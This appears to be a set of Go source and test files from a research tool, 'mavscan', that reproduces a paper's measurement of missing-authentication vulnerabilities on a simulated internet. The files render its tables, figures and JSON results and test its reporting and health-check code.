func Table1(w io.Writer) {
	fmt.Fprintln(w, "Table 1: investigated applications (catalog ground truth)")
	t := &table{header: []string{"Type", "App", "Stars", "Vuln", "Default MAV", "Warn"}}
	for _, info := range mav.Catalog() {
		vuln, def, warn := "-", "-", "-"
		if info.InScope() {
			vuln = string(info.Kind)
			switch info.Default {
			case mav.InsecureByDefault:
				def = "X"
			case mav.SecureByDefault:
				def = "ok"
			case mav.ChangedOverTime:
				def = "< " + info.DefaultChangedIn
			}
			switch {
			case info.Warns:
				warn = "yes"
			case info.Default == mav.InsecureByDefault:
				// The paper only grades warnings for products that ship
				// insecure and do not warn about it.
				warn = "no"
			}
		}
		t.add(string(info.Category), string(info.App), fmt.Sprintf("%dk", info.Stars), vuln, def, warn)
	}
	t.render(w)
}

// Table2 prints open ports and protocol responses, next to the paper's
// numbers scaled into the simulated universe.
func Table2(w io.Writer, r *scanner.Report) {
	fmt.Fprintln(w, "Table 2: open ports and HTTP(S) responses (measured)")
	t := &table{header: []string{"Port", "# Open", "# HTTP", "# HTTPS"}}
	var ports []int
	for p := range r.OpenPorts {
		ports = append(ports, p)
	}
	sort.Ints(ports)
	var totOpen, totHTTP, totHTTPS int
	for _, p := range ports {
		t.add(fmt.Sprint(p), fmt.Sprint(r.OpenPorts[p]), fmt.Sprint(r.HTTPResponses[p]), fmt.Sprint(r.HTTPSResponses[p]))
		totOpen += r.OpenPorts[p]
		totHTTP += r.HTTPResponses[p]
		totHTTPS += r.HTTPSResponses[p]
	}
	t.add("Total", fmt.Sprint(totOpen), fmt.Sprint(totHTTP), fmt.Sprint(totHTTPS))
	t.render(w)
	fmt.Fprintf(w, "(excluded %d all-ports-open artifact hosts)\n", r.ArtifactHosts)
}

// Table3 prints per-application prevalence against the paper's counts.
func Table3(w io.Writer, s *study.ScanStudy) {
	fmt.Fprintln(w, "Table 3: prevalence of AWEs and their MAVs")
	fmt.Fprintf(w, "(secure stratum sampled 1/%d, vulnerable stratum 1/%d; paper columns for reference)\n",
		s.World.HostScale(), s.World.VulnScale())
	t := &table{header: []string{"Type", "App", "# Hosts", "# MAVs", "MAV %", "Default", "Paper Hosts", "Paper MAVs"}}
	hosts := s.Report.HostsPerApp()
	mavs := s.Report.MAVsPerApp()
	var totalHosts, totalMAVs int
	for _, info := range mav.InScopeApps() {
		h, m := hosts[info.App], mavs[info.App]
		totalHosts += h
		totalMAVs += m
		ph, pm := population.Table3Targets(info.App)
		rate := 0.0
		// Undo the stratified sampling with the generator's design
		// weights to estimate the full-population MAV rate.
		sw, vw := s.World.Weights(info.App)
		eh := float64(h-m)*sw + float64(m)*vw
		if eh > 0 {
			rate = 100 * float64(m) * vw / eh
		}
		t.add(string(info.Category), string(info.App), fmt.Sprint(h), fmt.Sprint(m),
			fmt.Sprintf("%.1f%%", rate), info.Default.Symbol(), fmt.Sprint(ph), fmt.Sprint(pm))
	}
	t.add("", "Total", fmt.Sprint(totalHosts), fmt.Sprint(totalMAVs), "", "", "2507526", "4221")
	t.render(w)
}

// kv is one ranked row of a top-N table.
type kv struct {
	k string
	v int
}

// topCounts ranks a counter map for display: count descending, then key
// ascending. The tie-break is load-bearing — map keys are unique, so the
// (count, key) order is total and the ranking is deterministic even
// though the map itself iterates in random order. A regression test pins
// this across repeated runs.
func topCounts(m map[string]int, topN int) []kv {
	var out []kv
	for k, v := range m {
		out = append(out, kv{k, v})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].v != out[j].v {
			return out[i].v > out[j].v
		}
		return out[i].k < out[j].k
	})
	if len(out) > topN {
		out = out[:topN]
	}
	return out
}

// Table4 prints the geography of the vulnerable hosts.
func Table4(w io.Writer, s *study.ScanStudy, topN int) {
	fmt.Fprintln(w, "Table 4: top countries and ASes hosting vulnerable applications")
	countries := map[string]int{}
	ases := map[string]int{}
	asProvider := map[string]string{}
	hosting := 0
	vulnObs := s.Report.VulnerableObservations()
	for _, obs := range vulnObs {
		rec := s.World.Geo.Lookup(obs.IP)
		countries[rec.Country]++
		ases[rec.ASN]++
		asProvider[rec.ASN] = rec.Provider
		if rec.Hosting {
			hosting++
		}
	}
	t := &table{header: []string{"Country", "Hosts", "|", "AS", "Provider", "Hosts"}}
	tc, ta := topCounts(countries, topN), topCounts(ases, topN)
	for i := 0; i < topN && (i < len(tc) || i < len(ta)); i++ {
		var c, ch, a, ap, ah string
		if i < len(tc) {
			c, ch = tc[i].k, fmt.Sprint(tc[i].v)
		}
		if i < len(ta) {
			a, ap, ah = ta[i].k, asProvider[ta[i].k], fmt.Sprint(ta[i].v)
		}
		t.add(c, ch, "|", a, ap, ah)
	}
	t.render(w)
	if len(vulnObs) > 0 {
		fmt.Fprintf(w, "hosting-provider share of vulnerable hosts: %.0f%% (paper: ~64%%)\n",
			100*float64(hosting)/float64(len(vulnObs)))
	}
}

// Figure1 prints the version-age histograms.
func Figure1(w io.Writer, panels []analysis.VersionAgeHistogram) {
	fmt.Fprintln(w, "Figure 1: release-date bins (old → new), secure vs vulnerable")
	for _, p := range panels {
		name := "All applications"
		if p.App != "" {
			name = string(p.App)
		}
		fmt.Fprintf(w, "%-16s secure:     %s\n", name, sparkRow(p.Secure[:]))
		fmt.Fprintf(w, "%-16s vulnerable: %s\n", "", sparkRow(p.Vulnerable[:]))
	}
}

func sparkRow(vals []int) string {
	max := 1
	for _, v := range vals {
		if v > max {
			max = v
		}
	}
	marks := []rune(" .:-=+*#%@")
	var b strings.Builder
	for i, v := range vals {
		if i > 0 {
			b.WriteByte(' ')
		}
		idx := v * (len(marks) - 1) / max
		fmt.Fprintf(&b, "%c%-6d", marks[idx], v)
	}
	return b.String()
}

// Figure2 prints the longevity series (overall + by default group).
func Figure2(w io.Writer, res *observer.Result) {
	fmt.Fprintln(w, "Figure 2: longevity of detected MAVs (% of observed hosts)")
	day := func(s observer.Sample) float64 { return s.T.Sub(res.Overall[0].T).Hours()/24 + 1 }
	fmt.Fprintln(w, "day  vulnerable  fixed  offline   (overall)")
	step := len(res.Overall) / 14
	if step == 0 {
		step = 1
	}
	for i := 0; i < len(res.Overall); i += step {
		s := res.Overall[i]
		tot := float64(s.Total())
		if tot == 0 {
			continue
		}
		fmt.Fprintf(w, "%4.1f  %9.1f%%  %4.1f%%  %6.1f%%\n",
			day(s), 100*float64(s.Vulnerable)/tot, 100*float64(s.Fixed)/tot, 100*float64(s.Offline)/tot)
	}
	final := res.FinalSample()
	tot := float64(final.Total())
	if tot > 0 {
		fmt.Fprintf(w, "final: %.1f%% vulnerable (paper >50%%), %.1f%% fixed (paper 3.2%%), %.1f%% offline (paper 43.2%%), %d updated (paper 2.4%%)\n",
			100*float64(final.Vulnerable)/tot, 100*float64(final.Fixed)/tot, 100*float64(final.Offline)/tot, res.Updated)
	}
	for _, byDef := range []bool{true, false} {
		series := res.ByDefault[byDef]
		if len(series) == 0 {
			continue
		}
		last := series[len(series)-1]
		lt := float64(last.Total())
		label := "insecure-by-default"
		if !byDef {
			label = "explicitly modified"
		}
		if lt > 0 {
			fmt.Fprintf(w, "%s group final: %.1f%% vulnerable, %.1f%% fixed, %.1f%% offline\n",
				label, 100*float64(last.Vulnerable)/lt, 100*float64(last.Fixed)/lt, 100*float64(last.Offline)/lt)
		}
	}
}

// Table5 prints the attack distribution.
func Table5(w io.Writer, attacks []analysis.Attack) {
	fmt.Fprintln(w, "Table 5: attacks per application (paper in parentheses)")
	rows, total, unique, ips := analysis.Table5(attacks)
	t := &table{header: []string{"App", "# Attacks", "# Uniq. Attacks", "# Uniq. IPs"}}
	for _, r := range rows {
		paper := attacker.PaperAttackTotals[r.App]
		t.add(string(r.App), fmt.Sprintf("%d (%d)", r.Attacks, paper), fmt.Sprint(r.Unique), fmt.Sprint(r.UniqueIPs))
	}
	t.add("Total", fmt.Sprintf("%d (2195)", total), fmt.Sprintf("%d (122)", unique), fmt.Sprintf("%d (160)", ips))
	t.render(w)
}

// Table6 prints time-until-compromise statistics in hours.
func Table6(w io.Writer, stats []analysis.TimeStats) {
	fmt.Fprintln(w, "Table 6: time until compromise (hours)")
	t := &table{header: []string{"App", "First", "Avg(all)", "Shortest(uniq)", "Longest(uniq)", "Avg(uniq)"}}
	for _, s := range stats {
		t.add(string(s.App),
			fmt.Sprintf("%.1f", s.First),
			fmt.Sprintf("%.1f", s.AvgAll),
			fmt.Sprintf("%.1f", s.ShortestUnique),
			fmt.Sprintf("%.1f", s.LongestUnique),
			fmt.Sprintf("%.1f", s.AvgUnique))
	}
	t.render(w)
}

// Table7 prints attack source countries.
func Table7(w io.Writer, rows []analysis.CountryStats, topN int) {
	fmt.Fprintln(w, "Table 7: attack source countries")
	t := &table{header: []string{"Country", "# Attacks", "# AS"}}
	for i, r := range rows {
		if i >= topN {
			break
		}
		t.add(r.Country, fmt.Sprint(r.Attacks), fmt.Sprint(r.ASes))
	}
	t.render(w)
}

// Table8 prints attack source ASes.
func Table8(w io.Writer, rows []analysis.ASStats, topN int) {
	fmt.Fprintln(w, "Table 8: attack source autonomous systems")
	t := &table{header: []string{"AS", "Provider", "# Attacks", "# Countries"}}
	for i, r := range rows {
		if i >= topN {
			break
		}
		t.add(r.ASN, r.Provider, fmt.Sprint(r.Attacks), fmt.Sprint(r.Countries))
	}
	t.render(w)
}

// Figure3 prints the per-application attack timeline as day-binned counts.
func Figure3(w io.Writer, points []analysis.TimelinePoint) {
	fmt.Fprintln(w, "Figure 3: attack timeline (per day: total attacks, * marks days with new payloads)")
	byApp := map[mav.App][28]int{}
	newDays := map[mav.App][28]bool{}
	for _, p := range points {
		d := int(p.Hour / 24)
		if d < 0 || d > 27 {
			continue
		}
		counts := byApp[p.App]
		counts[d]++
		byApp[p.App] = counts
		if p.New {
			nd := newDays[p.App]
			nd[d] = true
			newDays[p.App] = nd
		}
	}
	for _, info := range mav.InScopeApps() {
		counts, ok := byApp[info.App]
		if !ok {
			continue
		}
		var b strings.Builder
		for d := 0; d < 28; d++ {
			switch {
			case counts[d] == 0:
				b.WriteString("  . ")
			case newDays[info.App][d]:
				fmt.Fprintf(&b, "%3d*", counts[d])
			default:
				fmt.Fprintf(&b, "%3d ", counts[d])
			}
		}
		fmt.Fprintf(w, "%-12s %s\n", info.App, b.String())
	}
}

// Figure4 prints the attacker-application bipartite graph.
func Figure4(w io.Writer, clusters []analysis.AttackerCluster) {
	fmt.Fprintln(w, "Figure 4: attackers targeting at least two applications")
	t := &table{header: []string{"Attacker", "# Attacks", "# IPs", "Applications"}}
	multi := analysis.MultiAppAttackers(clusters)
	for i, c := range multi {
		apps := make([]string, len(c.Apps))
		for j, a := range c.Apps {
			apps[j] = string(a)
		}
		t.add(fmt.Sprintf("attacker-%s", roman(i+1)), fmt.Sprint(c.Attacks), fmt.Sprint(len(c.IPs)), strings.Join(apps, " + "))
	}
	t.render(w)
}

func roman(n int) string {
	numerals := []struct {
		v int
		s string
	}{{10, "X"}, {9, "IX"}, {5, "V"}, {4, "IV"}, {1, "I"}}
	var b strings.Builder
	for _, num := range numerals {
		for n >= num.v {
			b.WriteString(num.s)
			n -= num.v
		}
	}
	return b.String()
}

// Table9 prints the joined summary.
func Table9(w io.Writer, rows []study.SummaryRow) {
	fmt.Fprintln(w, "Table 9: summary (scan + honeypot + defender studies)")
	t := &table{header: []string{"Type", "App", "Default", "Vulnerable", "Attacks", "Defend"}}
	for _, r := range rows {
		defend := "X"
		switch {
		case r.S1 && r.S2:
			defend = "S1&2"
		case r.S1:
			defend = "S1"
		case r.S2:
			defend = "S2"
		}
		t.add(string(r.Category), string(r.App), r.Default.Symbol(),
			fmt.Sprintf("%d (%.1f%%)", r.Vulnerable, 100*r.VulnRate),
			fmt.Sprint(r.Attacks), defend)
	}
	t.render(w)
}
