package report

import (
	"encoding/json"
	"io"
	"sort"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/mav"
	"mavscan/internal/observer"
	"mavscan/internal/population"
	"mavscan/internal/study"
)

// Results is the machine-readable aggregate of every experiment, intended
// for downstream plotting and regression tracking. All fields are plain
// data; nothing references live simulation objects.
type Results struct {
	// Meta records the sampling design of the run.
	Meta struct {
		HostScale int       `json:"host_scale"`
		VulnScale int       `json:"vuln_scale"`
		ScanDate  time.Time `json:"scan_date"`
	} `json:"meta"`

	Table2 []Table2Row `json:"table2,omitempty"`
	Table3 []Table3Row `json:"table3,omitempty"`
	Table4 struct {
		Countries    map[string]int `json:"countries"`
		ASes         map[string]int `json:"ases"`
		HostingShare float64        `json:"hosting_share"`
	} `json:"table4"`
	Figure1 []Figure1Panel          `json:"figure1,omitempty"`
	Figure2 []Figure2Point          `json:"figure2,omitempty"`
	Table5  []Table5Row             `json:"table5,omitempty"`
	Table6  []Table6Row             `json:"table6,omitempty"`
	Table7  []analysis.CountryStats `json:"table7,omitempty"`
	Table8  []analysis.ASStats      `json:"table8,omitempty"`
	Figure4 []Figure4Row            `json:"figure4,omitempty"`
	RQ7     struct {
		Scanner1Detected int `json:"scanner1_detected"`
		Scanner2Detected int `json:"scanner2_detected"`
	} `json:"rq7"`
	Purposes []analysis.PurposeStats `json:"purposes,omitempty"`
}

// Table2Row is one port row.
type Table2Row struct {
	Port  int `json:"port"`
	Open  int `json:"open"`
	HTTP  int `json:"http"`
	HTTPS int `json:"https"`
}

// Table3Row is one prevalence row with both measured and design-weighted
// values.
type Table3Row struct {
	App           mav.App `json:"app"`
	Category      string  `json:"category"`
	Hosts         int     `json:"hosts"`
	MAVs          int     `json:"mavs"`
	EstimatedRate float64 `json:"estimated_rate"`
	PaperHosts    int     `json:"paper_hosts"`
	PaperMAVs     int     `json:"paper_mavs"`
}

// Figure1Panel is one version-age histogram.
type Figure1Panel struct {
	App        string `json:"app"`
	Secure     []int  `json:"secure"`
	Vulnerable []int  `json:"vulnerable"`
}

// Figure2Point is one longevity sample.
type Figure2Point struct {
	Hours      float64 `json:"hours"`
	Vulnerable int     `json:"vulnerable"`
	Fixed      int     `json:"fixed"`
	Offline    int     `json:"offline"`
}

// Table5Row is one attack-count row.
type Table5Row struct {
	App       mav.App `json:"app"`
	Attacks   int     `json:"attacks"`
	Unique    int     `json:"unique"`
	UniqueIPs int     `json:"unique_ips"`
}

// Table6Row is one time-to-compromise row (hours).
type Table6Row struct {
	App            mav.App `json:"app"`
	First          float64 `json:"first"`
	AvgAll         float64 `json:"avg_all"`
	ShortestUnique float64 `json:"shortest_unique"`
	LongestUnique  float64 `json:"longest_unique"`
	AvgUnique      float64 `json:"avg_unique"`
}

// Figure4Row is one multi-application attacker.
type Figure4Row struct {
	Attacks int       `json:"attacks"`
	IPs     int       `json:"ips"`
	Apps    []mav.App `json:"apps"`
}

// BuildResults assembles the JSON document. Any of the study arguments may
// be nil; their sections are then omitted.
func BuildResults(scan *study.ScanStudy, longevity *observer.Result, pots *study.HoneypotStudy, def *study.DefenderStudy) *Results {
	res := &Results{}
	res.Meta.ScanDate = population.ScanDate
	res.Table4.Countries = map[string]int{}
	res.Table4.ASes = map[string]int{}

	if scan != nil {
		res.Meta.HostScale = scan.World.HostScale()
		res.Meta.VulnScale = scan.World.VulnScale()
		ports := make([]int, 0, len(scan.Report.OpenPorts))
		for port := range scan.Report.OpenPorts {
			ports = append(ports, port)
		}
		sort.Ints(ports)
		for _, port := range ports {
			res.Table2 = append(res.Table2, Table2Row{
				Port: port, Open: scan.Report.OpenPorts[port],
				HTTP:  scan.Report.HTTPResponses[port],
				HTTPS: scan.Report.HTTPSResponses[port],
			})
		}
		hosts := scan.Report.HostsPerApp()
		mavs := scan.Report.MAVsPerApp()
		for _, info := range mav.InScopeApps() {
			h, m := hosts[info.App], mavs[info.App]
			ph, pm := population.Table3Targets(info.App)
			sw, vw := scan.World.Weights(info.App)
			rate := 0.0
			if est := float64(h-m)*sw + float64(m)*vw; est > 0 {
				rate = float64(m) * vw / est
			}
			res.Table3 = append(res.Table3, Table3Row{
				App: info.App, Category: string(info.Category),
				Hosts: h, MAVs: m, EstimatedRate: rate,
				PaperHosts: ph, PaperMAVs: pm,
			})
		}
		vuln := scan.Report.VulnerableObservations()
		hosting := 0
		for _, obs := range vuln {
			rec := scan.World.Geo.Lookup(obs.IP)
			res.Table4.Countries[rec.Country]++
			res.Table4.ASes[rec.ASN]++
			if rec.Hosting {
				hosting++
			}
		}
		if len(vuln) > 0 {
			res.Table4.HostingShare = float64(hosting) / float64(len(vuln))
		}
		for _, panel := range analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop) {
			name := "all"
			if panel.App != "" {
				name = string(panel.App)
			}
			res.Figure1 = append(res.Figure1, Figure1Panel{
				App: name, Secure: panel.Secure[:], Vulnerable: panel.Vulnerable[:],
			})
		}
	}

	if longevity != nil && len(longevity.Overall) > 0 {
		t0 := longevity.Overall[0].T
		for _, s := range longevity.Overall {
			res.Figure2 = append(res.Figure2, Figure2Point{
				Hours: s.T.Sub(t0).Hours(), Vulnerable: s.Vulnerable, Fixed: s.Fixed, Offline: s.Offline,
			})
		}
	}

	if pots != nil {
		rows, _, _, _ := analysis.Table5(pots.Attacks)
		for _, r := range rows {
			res.Table5 = append(res.Table5, Table5Row{App: r.App, Attacks: r.Attacks, Unique: r.Unique, UniqueIPs: r.UniqueIPs})
		}
		for _, s := range analysis.Table6(pots.Attacks, pots.Start) {
			res.Table6 = append(res.Table6, Table6Row{
				App: s.App, First: s.First, AvgAll: s.AvgAll,
				ShortestUnique: s.ShortestUnique, LongestUnique: s.LongestUnique, AvgUnique: s.AvgUnique,
			})
		}
		res.Table7 = analysis.Table7(pots.Attacks, pots.Geo)
		res.Table8 = analysis.Table8(pots.Attacks, pots.Geo)
		for _, c := range analysis.MultiAppAttackers(pots.Clusters) {
			res.Figure4 = append(res.Figure4, Figure4Row{Attacks: c.Attacks, IPs: len(c.IPs), Apps: c.Apps})
		}
		res.Purposes = analysis.PurposeBreakdown(pots.Attacks)
	}

	if def != nil {
		for _, f := range def.Scanner1 {
			if f.Severity == "vulnerability" {
				res.RQ7.Scanner1Detected++
			}
		}
		for _, f := range def.Scanner2 {
			if f.Severity == "vulnerability" {
				res.RQ7.Scanner2Detected++
			}
		}
	}
	return res
}

// WriteJSON renders the results as indented JSON.
func (r *Results) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(r)
}
