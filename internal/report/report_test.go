package report

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"mavscan/internal/analysis"
	"mavscan/internal/geo"
	"mavscan/internal/mav"
	"mavscan/internal/observer"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
	"mavscan/internal/study"
)

func TestTable1RendersAllApps(t *testing.T) {
	var buf bytes.Buffer
	Table1(&buf)
	out := buf.String()
	for _, info := range mav.Catalog() {
		if !strings.Contains(out, string(info.App)) {
			t.Errorf("Table 1 missing %s", info.App)
		}
	}
	if !strings.Contains(out, "< 2.0 (2016)") {
		t.Error("Jenkins default-change annotation missing")
	}
}

func TestTable2Rendering(t *testing.T) {
	rep := &scanner.Report{
		OpenPorts:      map[int]int{80: 10, 443: 5},
		HTTPResponses:  map[int]int{80: 9},
		HTTPSResponses: map[int]int{443: 4},
		ArtifactHosts:  2,
	}
	var buf bytes.Buffer
	Table2(&buf, rep)
	out := buf.String()
	for _, want := range []string{"80", "443", "Total", "15", "excluded 2"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table 2 missing %q in:\n%s", want, out)
		}
	}
}

func TestTables5Through8AndFigures(t *testing.T) {
	t0 := time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
	ip := netip.MustParseAddr("10.11.0.5")
	attacks := analysis.Uniquify([]analysis.Attack{
		{App: mav.Hadoop, Src: ip, Start: t0.Add(time.Hour), Payload: "p1"},
		{App: mav.Hadoop, Src: ip, Start: t0.Add(2 * time.Hour), Payload: "p1"},
		{App: mav.Docker, Src: ip, Start: t0.Add(3 * time.Hour), Payload: "p2"},
	})
	var buf bytes.Buffer
	Table5(&buf, attacks)
	if !strings.Contains(buf.String(), "Hadoop") || !strings.Contains(buf.String(), "2 (1921)") {
		t.Errorf("Table 5 rendering:\n%s", buf.String())
	}

	buf.Reset()
	Table6(&buf, analysis.Table6(attacks, t0))
	if !strings.Contains(buf.String(), "1.0") {
		t.Errorf("Table 6 rendering:\n%s", buf.String())
	}

	geoDB := geo.Default()
	buf.Reset()
	Table7(&buf, analysis.Table7(attacks, geoDB), 10)
	if !strings.Contains(buf.String(), "Netherlands") {
		t.Errorf("Table 7 rendering:\n%s", buf.String())
	}
	buf.Reset()
	Table8(&buf, analysis.Table8(attacks, geoDB), 5)
	if !strings.Contains(buf.String(), "Serverion") {
		t.Errorf("Table 8 rendering:\n%s", buf.String())
	}

	buf.Reset()
	Figure3(&buf, analysis.Figure3(attacks, t0))
	if !strings.Contains(buf.String(), "Hadoop") {
		t.Errorf("Figure 3 rendering:\n%s", buf.String())
	}
	buf.Reset()
	Figure4(&buf, analysis.ClusterAttackers(attacks))
	if !strings.Contains(buf.String(), "Docker + Hadoop") {
		t.Errorf("Figure 4 rendering:\n%s", buf.String())
	}
}

func TestFigure2Rendering(t *testing.T) {
	t0 := time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)
	res := &observer.Result{
		Overall: []observer.Sample{
			{T: t0, Vulnerable: 10, Fixed: 0, Offline: 0},
			{T: t0.Add(24 * time.Hour), Vulnerable: 8, Fixed: 1, Offline: 1},
		},
		ByApp:     map[mav.App][]observer.Sample{},
		ByDefault: map[bool][]observer.Sample{true: {{T: t0, Vulnerable: 5}}},
		Updated:   1,
	}
	var buf bytes.Buffer
	Figure2(&buf, res)
	out := buf.String()
	if !strings.Contains(out, "80.0%") || !strings.Contains(out, "final:") {
		t.Errorf("Figure 2 rendering:\n%s", out)
	}
}

func TestRomanNumerals(t *testing.T) {
	cases := map[int]string{1: "I", 2: "II", 4: "IV", 9: "IX", 10: "X", 14: "XIV"}
	for n, want := range cases {
		if got := roman(n); got != want {
			t.Errorf("roman(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestTable3AndTable4OnRealScan renders the scan-derived tables from a tiny
// real pipeline run.
func TestTable3AndTable4OnRealScan(t *testing.T) {
	if testing.Short() {
		t.Skip("100k-host scan run is slow; skipped in -short mode")
	}
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed: 1, HostScale: 100000, VulnScale: 40,
			BackgroundScale: -1, WildcardScale: -1,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	Table3(&buf, scan)
	out := buf.String()
	if !strings.Contains(out, "Docker") || !strings.Contains(out, "Paper MAVs") {
		t.Errorf("Table 3 rendering:\n%s", out)
	}
	buf.Reset()
	Table4(&buf, scan, 5)
	if !strings.Contains(buf.String(), "hosting-provider share") {
		t.Errorf("Table 4 rendering:\n%s", buf.String())
	}
}

// TestTopCountsTieBreakStable pins Table 4's ranking order: count
// descending, then key ascending on ties. Because map keys are unique the
// comparator is a total order, so the output must be byte-identical no
// matter which order Go's randomized map hashing (the GODEBUG=randmaphash
// default) yields the entries — 100 runs over a tie-heavy map catch any
// regression to a partial order, where sort.Slice's instability would
// leak map order into the report.
func TestTopCountsTieBreakStable(t *testing.T) {
	counts := map[string]int{}
	// Four count classes, heavily tied, with keys deliberately inserted
	// out of lexical order.
	for i, k := range []string{"US", "DE", "CN", "FR", "RU", "BR", "IN", "GB", "NL", "JP", "KR", "AU"} {
		counts[k] = []int{7, 3, 7, 3, 7, 1, 3, 7, 1, 3, 1, 7}[i]
	}
	want := []kv{
		{"AU", 7}, {"CN", 7}, {"GB", 7}, {"RU", 7}, {"US", 7},
		{"DE", 3}, {"FR", 3}, {"IN", 3}, {"JP", 3},
	}
	first := topCounts(counts, 9)
	if fmt.Sprint(first) != fmt.Sprint(want) {
		t.Fatalf("tie-break order changed:\n got %v\nwant %v", first, want)
	}
	for run := 1; run < 100; run++ {
		if got := topCounts(counts, 9); fmt.Sprint(got) != fmt.Sprint(first) {
			t.Fatalf("run %d ranked differently:\n got %v\nwant %v", run, got, first)
		}
	}
}

func TestJSONResultsRoundTrip(t *testing.T) {
	hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	def, err := study.RunDefenders(context.Background(), study.DefenderConfig{})
	if err != nil {
		t.Fatal(err)
	}
	results := BuildResults(nil, nil, hs, def)
	var buf bytes.Buffer
	if err := results.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var decoded map[string]interface{}
	if err := json.Unmarshal(buf.Bytes(), &decoded); err != nil {
		t.Fatalf("output is not valid JSON: %v", err)
	}
	if _, ok := decoded["table5"]; !ok {
		t.Error("table5 missing from JSON export")
	}
	rq7, ok := decoded["rq7"].(map[string]interface{})
	if !ok || rq7["scanner1_detected"] != float64(5) || rq7["scanner2_detected"] != float64(3) {
		t.Errorf("rq7 section wrong: %v", decoded["rq7"])
	}
	if _, ok := decoded["purposes"]; !ok {
		t.Error("purposes missing from JSON export")
	}
}
