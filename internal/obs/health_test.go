package obs

import (
	"errors"
	"net/http"
	"testing"
)

func TestFlagLatch(t *testing.T) {
	f := &Flag{}
	if f.IsSet() {
		t.Fatal("new flag reads set")
	}
	check := f.Check("phase")
	if err := check.Probe(); err == nil {
		t.Fatal("unset flag's check passes")
	}
	f.Set()
	if !f.IsSet() {
		t.Fatal("Set did not latch")
	}
	if err := check.Probe(); err != nil {
		t.Fatalf("set flag's check fails: %v", err)
	}
}

func TestFlagNilSafe(t *testing.T) {
	var f *Flag
	f.Set() // must not panic
	if f.IsSet() {
		t.Fatal("nil flag reads set")
	}
	if err := f.Check("phase").Probe(); err == nil {
		t.Fatal("nil flag's check passes; it must report unset")
	}
}

func TestHeapCheck(t *testing.T) {
	if err := HeapCheck(1 << 40).Probe(); err != nil {
		t.Fatalf("1TiB budget fails: %v", err)
	}
	if err := HeapCheck(0).Probe(); err == nil {
		t.Fatal("zero budget passes; any live heap must exceed it")
	}
}

type fakePinger struct{ err error }

func (p *fakePinger) Ping() error { return p.err }

func TestPingCheck(t *testing.T) {
	if err := PingCheck("store", nil).Probe(); err != nil {
		t.Fatalf("nil pinger fails: %v", err)
	}
	if err := PingCheck("store", &fakePinger{}).Probe(); err != nil {
		t.Fatalf("healthy pinger fails: %v", err)
	}
	boom := errors.New("disk full")
	if err := PingCheck("store", &fakePinger{err: boom}).Probe(); !errors.Is(err, boom) {
		t.Fatalf("failing pinger error = %v, want %v", err, boom)
	}
}

func TestChecksHandlerSortsFailures(t *testing.T) {
	h := checksHandler([]Check{
		{Name: "zeta", Probe: func() error { return errors.New("z down") }},
		{Name: "alpha", Probe: func() error { return errors.New("a down") }},
		{Name: "mid", Probe: func() error { return nil }},
	})
	status, _, body := get(t, h, "/healthz")
	if status != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503", status)
	}
	if body != "alpha: a down\nzeta: z down\n" {
		t.Fatalf("body = %q; failures must be name-sorted", body)
	}
}
