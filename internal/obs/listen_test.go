package obs

import (
	"strings"
	"testing"
)

// TestListenRefusals covers every rejection path without opening a socket;
// the bind-success path is exercised end-to-end by the CI ops-plane smoke
// step, keeping `go test` hermetic.
func TestListenRefusals(t *testing.T) {
	cases := []struct {
		addr    string
		wantErr string
	}{
		{"no-port", "invalid listen address"},
		{"0.0.0.0:8070", "refusing non-loopback"},
		{"[::]:8070", "refusing non-loopback"},
		{"192.168.1.4:8070", "refusing non-loopback"},
		{"8.8.8.8:80", "refusing non-loopback"},
		{"example.com:8070", "must be a loopback IP or localhost"},
	}
	for _, c := range cases {
		l, err := Listen(c.addr)
		if err == nil {
			l.Close()
			t.Errorf("Listen(%q) succeeded; want error containing %q", c.addr, c.wantErr)
			continue
		}
		if !strings.Contains(err.Error(), c.wantErr) {
			t.Errorf("Listen(%q) error = %v, want containing %q", c.addr, err, c.wantErr)
		}
	}
}
