// Package obs is mavscan's live operations plane: a stdlib-only HTTP
// server exposing the telemetry registry and the runtime state of a scan
// while it runs. A multi-week, fleet-scale measurement cannot be operated
// blind — the paper's scan spanned 3.5B addresses across 64 machines —
// and the coordinator/worker fabric on the roadmap needs exactly this
// serving layer for heartbeats and lease state.
//
// Endpoints (all GET, all read-only):
//
//	/metrics       Prometheus text exposition (telemetry.WriteProm)
//	/metrics.json  full registry snapshot as JSON
//	/healthz       liveness checks (process-level: heap budget, ...)
//	/readyz        readiness checks (world generated, store writable, ...)
//	/progress      live per-shard scan progress (orchestrator tracker)
//	/spans         span log as Chrome trace-event JSON (chrome://tracing)
//	/events        structured event log as JSONL (?tail=N&after=SEQ)
//	/debug/pprof/  the standard runtime profiles
//
// Two design rules carry over from the rest of the code base:
//
//   - Determinism. The plane adds no clocks and no background flushers of
//     its own: every timestamp served comes from the telemetry registry's
//     injected simtime.Clock, so /events and /spans under a *simtime.Sim
//     replay byte-identically. The only goroutine is the accept loop.
//
//   - Hermeticity. The library is exercised entirely through
//     httptest/net.Pipe; the one real socket, Listen, refuses to bind
//     anything but loopback and is the single function-scoped carve-out
//     in the mavlint hermetic rule (see internal/lint/hermetic.go).
package obs

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"sort"
	"strconv"

	"mavscan/internal/telemetry"
)

// ProgressFunc supplies the /progress payload: any JSON-marshalable
// snapshot of live run state. It is a function type rather than an
// orchestrator import so the plane stays reusable for runs (observer,
// honeypots) that have no shard plan.
type ProgressFunc func() any

// Config assembles one operations plane.
type Config struct {
	// Telemetry backs /metrics, /metrics.json, /spans and /events. A nil
	// registry serves empty expositions rather than errors, so a plane can
	// be wired unconditionally.
	Telemetry *telemetry.Registry
